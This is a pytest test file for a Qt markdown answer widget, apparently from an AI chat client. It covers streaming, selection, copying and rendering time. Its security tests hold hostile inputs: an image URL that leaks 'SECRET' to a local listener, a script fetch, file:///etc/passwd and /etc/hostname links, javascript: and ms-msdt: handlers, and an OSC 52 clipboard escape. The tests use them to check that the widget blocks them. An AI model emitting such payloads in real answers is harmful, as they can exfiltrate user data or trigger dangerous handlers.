"""Texts of the transcript: streaming, selection, and nothing fetched."""

import itertools
import re
import socket
import threading
import time

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QGuiApplication, QTextCursor
from PySide6.QtWidgets import QApplication, QScrollArea, QVBoxLayout, QWidget

from app import resources
from app.widgets import code
from app.widgets import text as texts
from app.widgets.markdown import split, visible
from app.widgets.text import Answer, Text

MARKDOWN = """# Heading

Some *words*, `code` and a [link](https://example.org/).

- one
- two
  1. inner

> quoted

```python
def f(x):
    return x + 1
```

| a | b |
|---|---|
| 1 | 2 |

The end.
"""


@pytest.fixture
def answer(qtbot):
    page = QScrollArea()
    page.setWidgetResizable(True)
    page.resize(700, 400)
    made = Answer("Answer")
    inner = QWidget()
    QVBoxLayout(inner).addWidget(made)
    page.setWidget(inner)
    qtbot.addWidget(page)
    page.show()
    yield made
    page.close()


def stream(answer, source, size):
    shown = ""
    for start in range(0, len(source), size):
        shown = source[: start + size]
        answer.grow(shown, finished=False)
        yield shown
    answer.grow(source, finished=True)


SOURCES = {
    "lesson": MARKDOWN,
    "lists": "1. a\n2. b\n   ```sh\n   x\n\n     y\n   ```\n   more\n3. c\n\n"
    "- d\n\n  e\n- f\n  - [x] g\n* h\n",
    "lazy lines": "- a\nb\n**c** d\n\npara\n# head\ntext\n-\n\n> q\nlazy\n> r\n",
    "fences": "a\n```py\n\nx = 1\n``\n````\nb\n~~~\n```\n~~\n~~~\n    code\n",
    "open fence": "a\n\n```py\nx = 1\n\n",
    "fence in a fence": "```markdown\n```text\nx\n```\n## Notes\n```\nend \\(x^2\\)",
    "fences in a list": "1. a\n   ```markdown\n   ```py\n   x\n   ```\n   y\n   ```\n2. b\n\n"
    "> ~~~markdown\n> ~~~js\n> z\n> ~~~\n> ~~~\n",
    "formulas": "so \\(x^2\\) is\n\\[\na\n+ b\n= c\n\\]\nand $$z$$ or $y$, $5 and $10\n\n"
    "\\[ open\n- one\n",
    "long paragraph": "word *some* - 1. \n" * 300,
    "tall table": "|a|b|\n|-|-|\n" + "|1|two|\n" * 270 + "\nend\n",
    "definitions": "[a][b] text\n\n[b]: https://c.d/\n\nend",
    "control": "a\x00b\r\nc\r\n\r\n\x1b[31mred\u2028x\u0085y",
}


def looks(document):
    """All that is seen of a document: each block's text, place in lists and tables, formats."""
    seen = []
    block = document.begin()
    while block.isValid():
        shape, listed = block.blockFormat(), block.textList()
        table = QTextCursor(block).currentTable()
        margins = (shape.leftMargin(), shape.topMargin(), shape.bottomMargin())
        inks = [piece.fragment().charFormat().font().weight() for piece in block]
        number = (listed.format().style(), listed.format().start()) if listed else None
        seen.append((block.text(), margins, number, table is not None, inks))
        block = block.next()
    return seen


def in_pieces(*sizes, at_most):
    """Each source in pieces of each size, larger where there were too many of them."""
    cases = [
        pytest.param(source, size, id=f"{name}-{size}")
        for name, source in SOURCES.items()
        for size in sorted({max(size, len(source) // at_most) for size in sizes})
    ]
    return pytest.mark.parametrize(("source", "size"), cases)


@in_pieces(1, 3, 50, at_most=150)
def test_a_streamed_answer_ends_as_one_shown_at_once(qtbot, answer, source, size):
    for _ in stream(answer, source, size):
        pass
    whole = Answer("Answer")
    qtbot.addWidget(whole)
    whole.grow(source, finished=True)
    assert looks(answer.document()) == looks(whole.document())
    assert [c.source for c in answer._writer.cards] == [c.source for c in whole._writer.cards]


@in_pieces(5, 10_000, at_most=200)
def test_each_piece_of_the_source_is_found_in_the_document(answer, source, size):
    for _ in stream(answer, source, size):
        pass
    shown, placed = visible(source), set()
    cursor = QTextCursor(answer.document())
    for place in answer._writer.places.between(0, answer.document().characterCount()):
        placed.update(range(place.source, place.source + place.length))
        if place.length == place.room:
            cursor.setPosition(place.position)
            cursor.setPosition(place.position + place.room, QTextCursor.MoveMode.KeepAnchor)
            text = cursor.selectedText().replace("\u2029", "\n").replace("\ufffc", "")
            assert text in (shown[place.source : place.source + place.length], "")
    markup = {"python", "py", "sh", "text", "markdown", "1", "2", "3", "x"}
    for word in re.finditer(r"\w+", shown):
        if not placed & set(range(*word.span())):
            assert word.group() in markup, word


def counted(monkeypatch):
    """Lengths of what is parsed from now on."""
    parsed = []

    def counting(text, **how):
        parsed.append(len(text))
        return split(text, **how)

    monkeypatch.setattr(texts, "split", counting)
    return parsed


def test_an_open_fence_is_not_parsed_again(answer, monkeypatch):
    parsed = counted(monkeypatch)
    code = "```python\n" + "\n".join(f"x{n} = {n}" for n in range(2_000)) + "\n```\n"
    for _ in stream(answer, code, 60):
        pass
    assert sum(parsed) < 500
    assert "x1999 = 1999" in answer.toPlainText()


@pytest.mark.parametrize("size", [1, 4, 30])
def test_a_fence_in_a_fence_only_grows(answer, monkeypatch, size):
    """TXT-1: while it streams, no mark ends the outer block for a moment."""
    inner = "\n".join(f"```text\nx{n}\n```\n## Notes" for n in range(40))
    source = f"so\n\n```markdown\n{inner}\n```\n\nIt costs $5 today and \\(x^2\\)"
    parsed, before = counted(monkeypatch), ""
    for shown in stream(answer, source, size):
        sources = [card.source for card in answer._writer.cards]
        assert len(sources) == ("```" in shown)
        assert "".join(sources).startswith(before)
        before = "".join(sources)
    assert before == inner
    assert answer.toPlainText().endswith("It costs $5 today and ￼")
    assert sum(parsed) < 40 * len(source) / size + 2_500


@pytest.mark.parametrize(
    "source",
    [
        "".join(f"{n}. item *{n}*\n" for n in range(1, 800)),
        "word " * 3_000,
        "> quoted\n" * 1_500,
        "1. a\n   ```\n" + "   line of code\n" * 1_000 + "   ```\n",
        "|a|b|\n|-|-|\n" + "|1|two|\n" * 1_500,
    ],
    ids=["list", "paragraph", "quote", "fence in a list", "table"],
)
def test_a_long_open_block_is_not_parsed_with_every_piece(answer, monkeypatch, source):
    parsed = counted(monkeypatch)
    for _ in stream(answer, source, 60):
        pass
    assert sum(parsed) < 25 * len(source)


def test_code_without_an_end_costs_the_same_at_its_end(qtbot, answer):
    """TXT-2 (d): 5,000 lines; processor time, so that a busy machine does not count."""
    lines = [f"total_{n} = add({n}, other)  # n\n" for n in range(5_000)]
    shown, spent = "```python\n", []
    for start in range(0, 5_000, 25):
        shown += "".join(lines[start : start + 25])
        began = time.thread_time()
        answer.grow(shown, finished=False)
        QApplication.sendPostedEvents()
        QApplication.processEvents()
        spent.append(time.thread_time() - began)
    assert sum(spent[-10:]) < 3 * sum(spent[:10]) + 0.05
    assert sorted(spent)[-5] < 0.1


def test_finished_blocks_are_left_alone(answer):
    written = "first block\n\nsecond block\n\nthird"
    answer.grow(written, finished=False)
    first = answer.document().begin()
    revision = first.revision()
    for end in range(7):
        answer.grow(written + " piece" * end, finished=False)
    assert first.isValid()
    assert first.revision() == revision
    assert first.text() == "first block"


def test_a_selection_survives_what_comes_after_it(answer):
    answer.grow("one two three\n\nfour", finished=False)
    for place in (4, 15):
        cursor = answer.textCursor()
        cursor.setPosition(place)
        cursor.setPosition(place + 3, QTextCursor.MoveMode.KeepAnchor)
        answer.setTextCursor(cursor)
        chosen = answer.textCursor().selectedText()
        answer.grow(answer._source + " and more", finished=False)
        assert answer.textCursor().selectedText() == chosen
        assert len(chosen) == 3


def test_no_half_character_is_ever_shown(answer):
    family = "👩‍👩‍👧‍👦 龘 नमस्ते"
    for size in (1, 2, 3, 5):
        answer.grow("", finished=False)
        answer.clear()
        answer._source = ""
        answer._restart()
        for _ in stream(answer, family, size):
            assert "\ufffd" not in answer.toPlainText()
        assert answer.toPlainText() == family


@pytest.mark.parametrize(
    "source",
    [
        "#include <stdio.h> and what is <channel> here\n\n<b>next</b> <think",
        "a std::vector<std::string>, <file:///etc/x> and <javascript:alert(1)>",
        "It costs $5 today and $10 tomorrow, and \\(x^2\\)",
        "```markdown\n```text\nx\n```\n## Notes\n```\n",
        "unclosed **bold and `code",
    ],
)
def test_no_character_is_lost(answer, source):
    answer.grow(source, finished=True)
    shown = answer.toPlainText()
    for word in source.replace("*", " ").replace("`", " ").replace("\\(x^2\\)", "￼").split():
        assert word.strip("#\\()") in shown or word in ("markdown", "#")


@pytest.mark.parametrize(
    "source",
    [
        ">" * 5_000 + " deep",
        "> " * 60 + "deep",
        "deep " + "`" * 20_000,
        "*a **b " * 4_000,
        "deep " + "a" * 200_000,
        "```\n" + "a" * 200_000,
        "|a|b|\n|-|-|\n" + "|1|two|\n" * 3_000,
        "deep $x " * 3_000,
        "\\(x\\) " * 1_000,
        "\\( " * 3_000,
        "[a](" * 3_000,
        "- [ ] task\n" * 500,
        "deep e" + "\u0301" * 20_000,
        "\u202edeep\u200b " * 2_000,
        "مرحبا **deep** `שלום` " * 500,
        "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|b" * 2_000 + "|",
        "```\nnever closed\n" + "x\n" * 2_000,
        "what <channel> is <b" * 500,
        "deep" + "\n" * 8_000,
        "deep\n" + " \n" * 10_000,
    ],
    ids=[
        "quotes",
        "spaced quotes",
        "backticks",
        "stars",
        "letters",
        "line of code",
        "tall table",
        "dollars",
        "formulas",
        "open formulas",
        "open links",
        "tasks",
        "combining",
        "invisible",
        "right to left",
        "wide table",
        "open fence",
        "open tags",
        "newlines",
        "blank lines",
    ],
)
def test_awkward_texts_are_shown_in_time(answer, source):
    def spent():
        answer.clear()
        answer._source, answer._given = "", 0
        answer._restart()
        began = time.thread_time()
        answer.grow(source, finished=True)
        QApplication.sendPostedEvents()
        QApplication.processEvents()
        return time.thread_time() - began

    # the first use imports, and what else runs on the machine takes its share of others
    assert any(spent() < 0.25 for _ in range(6))
    assert len(answer.toPlainText()) > 100 or "deep" in answer.toPlainText()
    assert "deep" not in source or "deep" in answer.rich()


def test_blocks_join_to_the_text_they_came_from():
    for source in (MARKDOWN, "\n\n\nlate\n\n", "[ref]: https://a.b/\n", "a\n===\n\tx"):
        assert "".join(block.source for block in split(visible(source))) == visible(source) or (
            not split(visible(source))
        )


def test_control_characters_are_seen(answer):
    answer.grow("a\x00b \x1b[31mred", finished=True)
    assert answer.toPlainText() == "a⟨NUL⟩b ⟨ESC⟩[31mred"


def test_nothing_is_fetched_by_showing_an_answer(qtbot, answer, monkeypatch):
    loads = []
    original = Answer.loadResource
    monkeypatch.setattr(
        Answer,
        "loadResource",
        lambda self, kind, name: loads.append(original(self, kind, name)),
    )
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(0.2)
        at = f"http://127.0.0.1:{listener.getsockname()[1]}"
        source = (
            f'![x]({at}/p.png?leak=SECRET)\n\n<img src="{at}/q.png">\n\n'
            f"<img src='file:///etc/hostname'> ![f](file:///etc/hostname)\n\n"
            f"![d](data:image/png;base64,AAAA) <script>fetch('{at}/s')</script>"
        )
        for _ in stream(answer, source, 7):
            pass
        answer.grab()
        qtbot.wait(50)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert all(load is None for load in loads)
    assert "/p.png?leak=SECRET" in answer.toPlainText()
    assert "￼" not in answer.toPlainText()


def test_only_web_and_mail_addresses_are_opened_and_only_on_click(qtbot, answer, monkeypatch):
    opened = []
    monkeypatch.setattr(texts.QDesktopServices, "openUrl", lambda url: opened.append(url))
    wanted = ["https://example.org/", "http://a.b/c", "mailto:a@b.org"]
    unwanted = [
        "file:///C:/Windows/System32/calc.exe",
        "javascript:alert(1)",
        "ms-msdt:/id",
        "smb://host/share",
        "//host/share/x",
        "./update.js",
        "data:text/html,x",
        "https:x",
    ]
    for address in unwanted + wanted:
        answer.anchorClicked.emit(QUrl(address))
    assert [url.toString() for url in opened] == wanted
    assert answer.source().isEmpty()


def test_a_dangerous_link_is_text(answer):
    answer.grow("[a](file:///etc/passwd) [b](ms-msdt:/id) [c](https://example.org)", finished=True)
    block = answer.document().begin()
    hrefs = [
        fragment.fragment().charFormat().anchorHref()
        for fragment in block
        if fragment.fragment().charFormat().isAnchor()
    ]
    assert hrefs == ["https://example.org"]


def test_no_widget_is_touched_off_the_gui_thread(answer):
    caught = []

    def touch():
        for call in (lambda: answer.grow("x", finished=False), lambda: answer.show_plain("x")):
            try:
                call()
            except RuntimeError as error:
                caught.append(error)

    thread = threading.Thread(target=touch)
    thread.start()
    thread.join()
    assert len(caught) == 2
    assert answer.toPlainText() == ""


def test_code_is_copied_as_it_was_written(qtbot, answer):
    answer.grow("```python\nif x:\n\treturn\u00a01\n```\n\n```\nplain\n```", finished=True)
    qtbot.waitUntil(lambda: len(answer._copies) == 2)
    answer._copies[0].click()
    assert QGuiApplication.clipboard().text() == "if x:\n\treturn\u00a01"


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("java", "a " * 20_000),
        ("java", "a " * 6_000),
        ("java", ("a " * 999 + "\n") * 10),
        ("csharp", "a\n" * 9_000),
        ("make", "a" * 4_000),
        ("make", " " * 19_999),
        ("c", "\n" * 15_000),
        ("python", "x = 1 # a\n" * 1_900),
    ],
)
def test_colouring_code_takes_a_bounded_time(language, source):
    next(code.tones("x", language))  # the first use imports the lexer
    began = time.monotonic()
    pieces = list(code.tones(source, language))
    assert time.monotonic() - began < 0.5
    assert "".join(piece for piece, _ in pieces) == source


def test_colouring_ends_in_one_tone_when_its_time_is_over(monkeypatch):
    monkeypatch.setattr(code, "MAX_SECONDS", -1)
    assert list(code.tones("if x: pass", "python")) == [
        ("if", "code_keyword"),
        (" x: pass", "text"),
    ]


@pytest.mark.parametrize("source", ["x = 1; " * 300, "x = 1\n" * 4_000], ids=["line", "text"])
def test_code_too_long_to_colour_is_in_one_tone(source):
    assert list(code.tones(source, "python")) == [(source, "text")]


@pytest.mark.parametrize("finished", [False, True])
def test_code_takes_its_colours_bit_by_bit(qtbot, answer, finished):
    source = "```python\n" + "if x: pass  # y\n" * 12
    answer.grow(source, finished=finished)
    qtbot.waitUntil(lambda: len(_code_block(answer).layout().formats()) == 3)
    inks = {
        laid.format.foreground().color().name() for laid in _code_block(answer).layout().formats()
    }
    assert len(inks) == 2
    # The text itself has none of them, so nothing of them is copied.
    assert len([piece.fragment() for piece in _code_block(answer)]) == 1


def test_code_that_nobody_sees_is_not_coloured(qtbot, answer):
    answer.grow("filler\n\n" * 200 + "```python\nif x: pass\n```\n", finished=True)
    qtbot.wait(50)
    assert _code_block(answer).layout().formats() == []


def _code_block(answer):
    blocks = itertools.takewhile(lambda b: b.isValid(), _blocks(answer.document().begin()))
    return next(block for block in blocks if "if x" in block.text())


def test_the_address_of_a_link_is_no_markup_in_its_tooltip(answer):
    answer.grow("[a](https://a.b/?x&lt=1)", finished=True)
    shapes = [piece.fragment().charFormat() for piece in answer.document().begin()]
    assert shapes[0].toolTip() == "<qt>https://a.b/?x&amp;lt=1</qt>"


def test_code_reads_from_left_to_right(answer):
    answer.grow("مرحبا\n\n```\nשלום = 1\n```\n\nhello", finished=True)
    directions = {
        block.text(): block.textDirection()
        for block in itertools.takewhile(lambda b: b.isValid(), _blocks(answer.document().begin()))
    }
    assert directions["مرحبا"] is Qt.LayoutDirection.RightToLeft
    assert directions["שלום = 1"] is Qt.LayoutDirection.LeftToRight
    assert directions["hello"] is Qt.LayoutDirection.LeftToRight


def _blocks(block):
    while True:
        yield block
        block = block.next()


def inked(answer, name):
    """The pixels of a colour in an answer."""
    shot, ink = answer.grab().toImage(), resources.colour(name).rgb()
    return {
        (x, y) for x in range(shot.width()) for y in range(shot.height()) if shot.pixel(x, y) == ink
    }


@pytest.mark.parametrize("source", ["words", "- one\n- two", "```py\nx = 1\ny", "a\n\n> bc"])
def test_a_line_stands_where_a_growing_answer_goes_on(answer, source):
    answer.grow(source[:-1], finished=False)
    before = inked(answer, "accent")
    answer.grow(source, finished=False)
    line = inked(answer, "accent")
    assert len({x for x, _ in line}) == 2
    assert line != before
    assert min(line)[1] > answer.height() - 60
    answer.grow(source, finished=True)
    assert not inked(answer, "accent")


def test_the_bar_of_a_quote_is_as_high_as_its_lines(answer):
    answer.grow("> one\n>\n> two", finished=True)
    rows = [y for _, y in inked(answer, "control")]
    cursor = QTextCursor(answer.document())
    first = answer.cursorRect(cursor)
    cursor.movePosition(QTextCursor.MoveOperation.End)
    last = answer.cursorRect(cursor)
    assert abs(min(rows) - first.top()) <= 2
    assert abs(max(rows) - last.bottom()) <= 2


@pytest.mark.parametrize("card", ["```py\nx = 1\n```", "|a|b|\n|-|-|\n|1|2|"])
def test_a_card_at_the_end_keeps_nothing_apart(answer, card):
    answer.grow(card, finished=True)
    lines = [y for _, y in inked(answer, "line")]
    assert answer.height() - max(lines) <= 8


def test_what_the_user_wrote_is_plain(qtbot):
    shown = Text("Message")
    qtbot.addWidget(shown)
    shown.show_plain("<b>bold</b> **x**\n<channel>\x00\x1b[0m\x7f\r\n\x85\u2028")
    assert shown.toPlainText() == "<b>bold</b> **x**\n<channel>⟨NUL⟩⟨ESC⟩[0m⟨DEL⟩\n \n"


def test_escapes_and_unseen_characters_in_code_are_marked_and_counted(qtbot, answer):
    """INP-2: nothing is lost after a NUL, and what turns or hides code is named."""
    source = (
        "abc\x00def\n\n```\nac\u200bcess = \u202etrue\u202c\n\x1b]52;c;QUJD\x07end\n```\n\na\u2028b"
    )
    for _ in stream(answer, source, 4):
        pass
    shown = answer.toPlainText()
    assert "abc⟨NUL⟩def" in shown
    assert "ac⟨U+200B⟩cess = ⟨U+202E⟩true⟨U+202C⟩\n⟨ESC⟩]52;c;QUJD⟨BEL⟩end" in shown
    assert "a\nb" in shown
    qtbot.waitUntil(lambda: len(answer._copies) == 1)
    assert "3" in answer._copies[0].accessibleDescription()
    answer._copies[0].click()
    copied = QGuiApplication.clipboard().text()
    assert copied == "ac\u200bcess = \u202etrue\u202c\n␛]52;c;QUJD␇end"


def test_signs_of_control_characters_are_quiet_and_what_follows_is_not(answer):
    """INP-2: letters that can be read; prose behind them looks as before, also while it grows."""
    answer.grow("so " * 600 + "\x1b", finished=False)
    answer.grow("so " * 600 + "\x1b then `\x07`", finished=False)
    inks = {}
    for piece in answer.document().lastBlock():
        shape = piece.fragment().charFormat()
        inks[piece.fragment().text()[-6:].strip()] = shape.foreground().color().name()
        if "⟨" in piece.fragment().text():
            assert shape.fontPointSize() >= resources.code_font().pointSizeF()
    text, muted = (resources.colour(tone).name() for tone in ("text", "text2"))
    assert inks["⟨ESC⟩"] == muted
    assert next(ink for words, ink in inks.items() if "the" in words) == text


@pytest.mark.parametrize(
    "source",
    ["naïve = 'größe'", "s = '👩\u200d👩\u200d👧'", "# می\u200cخواهم", "x = '⚠\ufe0f'", "क्\u200dष"],
)
def test_what_joins_letters_is_no_unseen_character(source):
    assert code.count_unseen(source) == 0


def test_the_address_of_a_link_stands_behind_its_words(answer):
    """REM-2: what is opened, and what is not, can be read before any click."""
    source = (
        "[words](https://a.b/c) <https://d.e> https://f.g/h. [i.j](https://i.j/) [k](ms-x:/l)"
        " [m](\\\\host\\share) [n](./o.js) [p](file:///q) [r](javascript:s) **[t](data:u)**"
    )
    answer.grow(source, finished=True)
    shown = answer.toPlainText()
    assert shown == (
        "words (a.b/c) https://d.e https://f.g/h. i.j k (ms-x:/l) m (\\host\\share) n (./o.js)"
        " p (file:///q) r (javascript:s) t (data:u)"
    )


def test_an_answer_is_copied_as_rich_text_without_pictures_or_strange_addresses(answer):
    source = MARKDOWN + "\n![x](http://a.b/p.png) [y](ms-z:/1) <b>bold</b> \\(a<b\\)\n\n- [x] z\n"
    answer.grow(source, finished=True)
    html = answer.rich()
    assert "<img" not in html
    assert "ms-z" not in html
    assert "<b>" not in html
    assert '<a href="https://example.org/">link</a>' in html
    assert "<code>\\(a&lt;b\\)</code>" in html
    assert "<td>1</td>" in html


def test_a_selection_is_copied_with_the_marks_of_lists_and_the_sources_of_formulas(answer):
    source = "so \\(x^2\\) is\n\n1. one\n2. two\n   - [x] done\n\n"
    source += "```\nif x:\n    y\n```\n\n|a|b|\n|-|-|\n|1|2|\n"
    answer.grow(source, finished=True)
    answer.selectAll()
    assert answer.createMimeDataFromSelection().text() == (
        "so \\(x^2\\) is\n1. one\n2. two\n  - [x] done\nif x:\n    y\na\tb\n1\t2"
    )


def test_tasks_have_boxes_instead_of_bullets(qtbot, answer):
    answer.grow("- [ ] one\n- [x] two **b**\n- [y] three\n- four\n", finished=True)
    assert answer.toPlainText() == "one\ntwo b\n[y] three\nfour"
    assert [done for _, done in answer._writer.tasks] == [False, True]
    styles = [number[0] for _, _, number, _, _ in looks(answer.document())]
    assert styles[0] == styles[1] != styles[2] == styles[3]
    accent = resources.colour("accent").name()
    shot = answer.grab().toImage()
    ticked = {
        y for y in range(shot.height()) for x in range(22) if shot.pixelColor(x, y).name() == accent
    }
    second = answer.cursorRect(answer.document().find("two"))
    assert ticked
    assert second.top() <= min(ticked) <= max(ticked) <= second.bottom()


def test_columns_are_aligned_as_they_say(answer):
    answer.grow("|a|b|c|d|\n|:-|-:|:-:|-|\n|1|2|3|4|\n", finished=True)
    flags = Qt.AlignmentFlag
    sides = [
        block.blockFormat().alignment() & flags.AlignHorizontal_Mask
        for block in itertools.takewhile(lambda b: b.isValid(), _blocks(answer.document().begin()))
        if block.text().isdigit()
    ]
    assert [bool(side & flags.AlignRight) for side in sides] == [False, True, False, False]
    assert [bool(side & flags.AlignHCenter) for side in sides] == [False, False, True, False]


def test_items_keep_their_numbers_and_depth(answer):
    answer.grow("3. a\n1. b\n   - c\n     1. d\n2. e\n\npara\n\n1. f\n", finished=True)
    listed = {
        text: (margins[0], number) for text, margins, number, _, _ in looks(answer.document())
    }
    assert [listed[t][1][1] for t in "abdef"] == [3, 4, 1, 5, 1]
    assert [listed[t][0] for t in "abcd"] == [0, 0, 22, 44]


def test_a_growing_answer_goes_on_after_a_change_of_colours(qtbot, answer):
    for index, _ in enumerate(stream(answer, MARKDOWN, 9)):
        if index % 4 == 0:
            answer.redraw()
    whole = Answer("Answer")
    qtbot.addWidget(whole)
    whole.grow(MARKDOWN, finished=True)
    assert looks(answer.document()) == looks(whole.document())


def test_a_new_scheme_repaints_the_same_text(answer):
    answer.grow(MARKDOWN, finished=True)
    before = answer.toPlainText()
    answer.redraw()
    assert answer.toPlainText() == before
